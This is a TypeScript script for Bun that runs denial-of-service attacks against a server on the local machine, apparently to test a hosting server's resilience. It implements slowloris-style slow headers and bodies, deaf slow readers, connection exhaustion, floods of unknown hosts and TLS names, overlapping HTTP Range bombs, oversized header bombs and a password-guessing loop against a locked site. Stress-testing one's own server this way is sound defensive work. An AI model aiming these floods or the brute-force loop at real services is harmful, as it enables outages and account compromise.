// bun attack.ts <kind> <port> [tls]: attacks a server on this machine until it is killed, and tells how it goes.
import { type AttackKind, DOMAIN, FILM, LOCKED_SITE, type Progress, SITE } from "./target.ts";

const port = Number(process.argv[3]);
const isTls = process.argv[4] === "tls";
const progress: Progress = { open: 0, answered: 0 };
const REOPEN_MS = 200;
const OPENED_AT_ONCE = 100;
/** Who asks for a file and reads nothing still has it sent, as far as the system keeps it: a burst, which is not the attack. */
const DEAF_OPENED_AT_ONCE = 2;
const TICK_MS = 10;

interface Drip {
  readonly text: string;
  readonly everyMs: number;
}

/** Options of a connection that speaks TLS, where the server does, and names a host in the handshake. */
const tlsTo = (serverName: string) => (isTls ? { tls: { serverName, rejectUnauthorized: false } } : {});

/** Keeps so many connections open: each says `first`, then `drip` again and again; a deaf one never reads. */
function hold(count: number, first: string, { drip, isDeaf }: { drip?: Drip; isDeaf?: boolean } = {}): void {
  const begin = (socket: Bun.Socket<Timer | undefined>) => {
    if (first !== "") socket.write(first);
    if (isDeaf) socket.pause();
    if (drip) socket.data = setInterval(() => socket.write(drip.text), drip.everyMs);
  };
  const open = () => {
    const opening = Bun.connect<Timer | undefined>({
      hostname: "127.0.0.1",
      port,
      // Who says nothing does not shake hands either.
      ...(first === "" ? {} : tlsTo(SITE)),
      socket: {
        open(socket) {
          progress.open++;
          if (!isTls || first === "") begin(socket);
        },
        handshake: begin,
        data: () => void progress.answered++,
        close(socket) {
          progress.open--;
          clearInterval(socket.data);
          setTimeout(open, REOPEN_MS);
        },
        error() {},
        connectError: () => void setTimeout(open, REOPEN_MS),
      },
    });
    opening.catch(() => {});
  };
  let opened = 0;
  const wave = setInterval(() => {
    for (let i = 0; i < (isDeaf ? DEAF_OPENED_AT_ONCE : OPENED_AT_ONCE) && opened < count; i++, opened++) open();
    if (opened >= count) clearInterval(wave);
  }, TICK_MS);
}

/** Shakes hands again and again, each time for another name, over so many connections at a time, and asks for a page of it. */
function shake(connections: number): void {
  let number = 0;
  const connect = () => {
    const name = nobodysName(number++);
    const opening = Bun.connect({
      hostname: "127.0.0.1",
      port,
      ...tlsTo(name),
      socket: {
        open: () => void progress.open++,
        handshake: (socket) => void socket.write(get(name, "/", "Connection: close\r\n")),
        data(socket) {
          progress.answered++;
          socket.end();
        },
        close() {
          progress.open--;
          connect();
        },
        error() {},
        connectError: () => void setTimeout(connect, REOPEN_MS),
      },
    });
    opening.catch(() => {});
  };
  for (let i = 0; i < connections; i++) connect();
}

/** One connection of a flood: busy from a request to the last byte of its answer. */
interface Line {
  readonly send: (text: string) => void;
  /** Bytes of the answer that are still to come; undefined before its head. */
  left: number | undefined;
}

/** Sends so many requests a second, as far as its connections are free: none before the answer to the one before. */
function flood(perSecond: number, connections: number, request: (number: number) => string): void {
  const free = new Set<Line>();
  let number = 0;
  let owed = 0;
  const connect = () => {
    const opening = Bun.connect<Line>({
      hostname: "127.0.0.1",
      port,
      ...tlsTo(SITE),
      socket: {
        open(socket) {
          progress.open++;
          socket.data = { send: (text) => void socket.write(text), left: undefined };
          if (!isTls) free.add(socket.data);
        },
        handshake: ({ data }) => void free.add(data),
        data({ data: line }, bytes) {
          line.left = (line.left ?? lengthOf(bytes)) - bytes.length;
          if (line.left > 0) return;
          progress.answered++;
          line.left = undefined;
          free.add(line);
        },
        close({ data: line }) {
          progress.open--;
          free.delete(line);
          setTimeout(connect, REOPEN_MS);
        },
        error() {},
        connectError: () => void setTimeout(connect, REOPEN_MS),
      },
    });
    opening.catch(() => {});
  };
  for (let i = 0; i < connections; i++) connect();
  setInterval(() => {
    owed = Math.min(owed + (perSecond * TICK_MS) / 1000, perSecond / 10);
    for (const line of free) {
      if (owed < 1) break;
      owed--;
      free.delete(line);
      line.send(request(number++));
    }
  }, TICK_MS);
}

/** The length of an answer whose first bytes these are, its head included. */
function lengthOf(bytes: Buffer): number {
  const head = bytes.toString("latin1").split("\r\n\r\n")[0] ?? "";
  return head.length + 4 + Number(/content-length: (\d+)/i.exec(head)?.[1] ?? 0);
}

const get = (host: string, path: string, headers = ""): string =>
  `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n${headers}\r\n`;

/** Under the base domain and elsewhere, another each time. */
const nobodysName = (i: number): string => (i % 2 ? `x${i}.${DOMAIN}` : `x${i}.evil.test`);

const manyRanges = Array.from({ length: 1500 }, (_, i) => `${i * 10}-${i * 10 + 1}`).join(",");
const overlapping = Array.from({ length: 1500 }, () => "0-").join(",");

const attacks: Readonly<Record<AttackKind, () => void>> = {
  idle: () => hold(5000, ""),
  "slow headers": () =>
    hold(2000, `GET / HTTP/1.1\r\nHost: ${SITE}\r\n`, { drip: { text: "X-A: b\r\n", everyMs: 2000 } }),
  "slow bodies": () =>
    hold(
      2000,
      `POST /api/v1/auth/login HTTP/1.1\r\nHost: ${DOMAIN}\r\nContent-Length: 100000\r\nContent-Type: application/json\r\n\r\n{`,
      { drip: { text: " ", everyMs: 2000 } },
    ),
  "slow readers": () => hold(1000, get(SITE, FILM), { isDeaf: true }),
  "unknown hosts": () => flood(10_000, 256, (i) => get(nobodysName(i), "/")),
  // As many as keep this machine busy: more would wait here, not there.
  "unknown names": () => shake(16),
  "range bombs": () => flood(1000, 64, (i) => get(SITE, FILM, `Range: bytes=${i % 2 ? manyRanges : overlapping}\r\n`)),
  "header bombs": () => flood(1000, 64, (i) => get(SITE, "/", `X-A: ${"b".repeat(i % 2 ? 15_000 : 30_000)}\r\n`)),
  passwords: () =>
    flood(500, 64, (i) => {
      const body = `password=guess${i}`;
      const form = `Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${body.length}\r\n`;
      return `POST /?sitepod_access=password HTTP/1.1\r\nHost: ${LOCKED_SITE}\r\n${form}\r\n${body}`;
    }),
};

attacks[process.argv[2] as AttackKind]();
setInterval(() => process.stdout.write(`${JSON.stringify(progress)}\n`), 200);
